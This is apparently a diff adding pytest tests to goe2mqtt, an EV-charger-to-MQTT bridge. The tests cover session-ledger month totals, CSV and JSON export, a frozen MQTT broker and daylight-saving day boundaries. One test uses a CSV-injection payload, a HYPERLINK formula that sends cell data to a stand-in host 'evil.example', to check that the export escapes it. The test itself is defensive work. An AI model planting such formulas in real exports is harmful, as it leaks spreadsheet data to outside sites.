@@ -4,6 +4,8 @@ session topics, pruning and `goe2mqtt sessions`."""
 
 from __future__ import annotations
 
+import asyncio
+import contextlib
 import json
 import os
 import stat
@@ -243,6 +245,32 @@ def test_a_session_counts_in_the_month_it_started_so_the_month_never_drops(
     assert books.states()["@last_session_energy"] == 4.0
 
 
+def test_a_new_month_starts_the_month_totals_afresh_while_the_charger_idles(
+    tmp_path: Path,
+) -> None:
+    # November's session closed; December comes with no car: "energy this month" must
+    # not show November's figures until the next car arrives.
+    clock = Clock()
+    clock.now = 1_796_083_200.0 - 7200  # 2026-11-30T22:00:00Z
+    ledger = Ledger(SessionStore(tmp_path / "s"), clock=lambda: clock.now,
+                    monotonic=lambda: clock.mono)  # fmt: skip
+    books = ledger.books_for("garage", TariffSettings(price_per_kwh=0.5, timezone="UTC"))
+    books.observe(status(eto=100_000, trx=1), serial=None)
+    clock.advance(1200)
+    books.observe(status(eto=102_000, trx=1), serial=None)
+    books.observe(status(car=1, eto=102_000), serial=None)
+    ledger.commit()
+    november = books.states()
+    assert (november["@month_energy"], november["@month_cost"]) == (2.0, 1.0)
+    assert november["@card_0_month_energy"] == 2.0
+    clock.advance(2 * 86_400)  # December 2nd: the charger idles, the same status
+    books.observe(status(car=1, eto=102_000), serial=None)
+    december = books.states()
+    assert (december["@month_energy"], december["@month_cost"]) == (0.0, 0.0)
+    assert december["@card_0_month_energy"] == 0.0
+    assert december["@last_session_energy"] == 2.0  # the last session stays the last
+
+
 def test_the_sessions_command_filters_by_charger_day_and_card(
     tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
@@ -289,4 +317,117 @@ def test_the_sessions_command_filters_by_charger_day_and_card(
         "2026-12,b,1,1.002,1.002,0.000,0.50,0",
     ]
     assert main(["sessions", "--config", str(config), "--since", "30.11.2026"]) == 2
+    ledger.store.close()
+
+
+def test_a_card_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text() -> None:
+    # Card names come from the charger (whoever names cards in the app); the CSV is
+    # made for a spreadsheet, which runs a cell beginning = + - @ as a formula
+    # (CSV injection: =HYPERLINK(...) sends whoever clicks to a stranger's site).
+    import csv
+    import io
+
+    from goe2mqtt.ledger.record import Session
+    from goe2mqtt.ledger.report import as_csv, summary_text
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Bob")'
+    session = Session(id="garage-1", charger="garage", serial="+43123", started=T0,
+                      eto_start=0.0, eto_last=1000.0, seen_at=T0, currency="EUR",
+                      priced=True, card=hostile, card_slot=1, cost_so_far=-0.5)  # fmt: skip
+    text = as_csv([session], T0)
+    assert text.count("\r\n") == 2  # RFC 4180: a header and a row, each ended CRLF
+    assert text.endswith("\r\n")
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert row["card"] == "'" + hostile
+    assert row["serial"] == "'+43123"
+    assert row["cost"] == "-0.50"  # a number stays a number, negative or not
+    assert row["energy_wh"] == "1000.0"
+    text = summary_text([("2026-11", "@SUM(1)", 1, 1.0, 1.0, 0.0, -0.5, 0)], "month,card", "csv")
+    assert text.splitlines()[1] == "2026-11,'@SUM(1),1,1.000,1.000,0.000,-0.50,0"
+    # JSON is not a spreadsheet: the name stays as the charger gave it.
+    assert summary_text([("2026-11", "@SUM(1)", 1, 1.0, 1.0, 0.0, 0.5, 0)], "month,card",
+                        "json").count('"@SUM(1)"') == 1  # fmt: skip
+
+
+class FrozenBroker(Channel):
+    """A broker that took the connection but answers nothing: a QoS 2 publish never
+    completes (the chaos soak's frozen broker, issue 28)."""
+
+    async def publish_once(self, topic: str, payload: str | bytes) -> None:
+        self.sent.append((topic, payload.encode() if isinstance(payload, str) else payload))
+        await asyncio.Event().wait()
+
+
+async def test_a_frozen_broker_does_not_stop_the_books_reaching_the_disk(tmp_path: Path) -> None:
+    # session/ended waits for the broker's PUBCOMP; while it waits, the next session's
+    # opening and its progress must still be written (a kill -9 then loses nothing).
+    import goe2mqtt.bridge.ledger_out as ledger_out
+    from goe2mqtt.config.settings import parse_settings
+    from goe2mqtt.mqtt.topics import Topics
+    from tests.conftest import until
+
+    settings = parse_settings({"mqtt": {"host": "localhost"}, "state_dir": str(tmp_path),
+                               "chargers": [{"name": "garage", "host": "127.0.0.1"}]})  # fmt: skip
+    out = ledger_out.LedgerOutput(Topics("base"))
+    ledger = out.open(settings)
+    books = ledger.books_for("garage", TariffSettings())
+    broker, stop = FrozenBroker(), asyncio.Event()
+    running = asyncio.create_task(out.run(broker, stop))
+    on_disk = SessionStore(tmp_path / "goe2mqtt.sessions", read_only=True)
+    try:
+        books.observe(status(eto=100_000), serial=None)
+        books.observe(status(car=1, eto=100_500), serial=None)
+        await until(lambda: broker.sent != [], "session/ended sent (never acknowledged)")
+        books.observe(status(eto=100_500), serial=None)  # the next car
+        await until(lambda: len(on_disk.open_sessions()) == 1, "the next session on disk")
+        assert [s.ended is not None for s in on_disk.sessions()] == [True, False]
+    finally:
+        stop.set()
+        running.cancel()
+        with contextlib.suppress(asyncio.CancelledError):
+            await running
+        on_disk.close()
+        out.close()
+
+
+def test_until_includes_the_whole_day_on_the_days_the_clocks_change() -> None:
+    # --until 2026-10-25 in Vienna: that day has 25 hours (the clocks go back), so its
+    # last hour is not within 24 h of its start; 2026-03-29 has 23.
+    from zoneinfo import ZoneInfo
+
+    from goe2mqtt.ledger.report import day_end, day_start
+
+    vienna = ZoneInfo("Europe/Vienna")
+    for day, following in (("2026-10-25", "2026-10-26"), ("2026-03-29", "2026-03-30"),
+                           ("2026-11-30", "2026-12-01")):  # fmt: skip
+        assert day_end(day, vienna) == day_start(following, vienna)
+    assert day_end("2026-10-25", vienna) - day_start("2026-10-25", vienna) == 25 * 3600
+    assert day_end("2026-12-31", None) == day_start("2027-01-01", None)
+
+
+def test_sessions_until_a_25_hour_day_lists_its_last_hour(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    import yaml
+
+    from goe2mqtt.cli import main
+
+    raw = {"mqtt": {"host": "localhost", "client_id": "dst"}, "state_dir": str(tmp_path),
+           "tariff": {"price_per_kwh": 0.5, "timezone": "Europe/Vienna"},
+           "chargers": [{"name": "garage", "host": "127.0.0.1"}]}  # fmt: skip
+    config = tmp_path / "config.yaml"
+    config.write_text(yaml.safe_dump(raw))
+    clock = Clock()
+    clock.now = 1_792_967_400.0  # 2026-10-25T22:30:00Z: 23:30 in Vienna, the same day
+    ledger = Ledger(SessionStore(tmp_path / "dst.sessions"), clock=lambda: clock.now,
+                    monotonic=lambda: clock.mono)  # fmt: skip
+    books = ledger.books_for("garage", TariffSettings(price_per_kwh=0.5))
+    books.observe(status(eto=100_000), serial=None)
+    clock.advance(600)
+    books.observe(status(car=1, eto=101_000), serial=None)
+    ledger.commit()
+    capsys.readouterr()
+    assert main(["sessions", "--config", str(config), "--format", "json",
+                 "--since", "2026-10-25", "--until", "2026-10-25"]) == 0  # fmt: skip
+    assert [s["energy_wh"] for s in json.loads(capsys.readouterr().out)] == [1000]
     ledger.store.close()
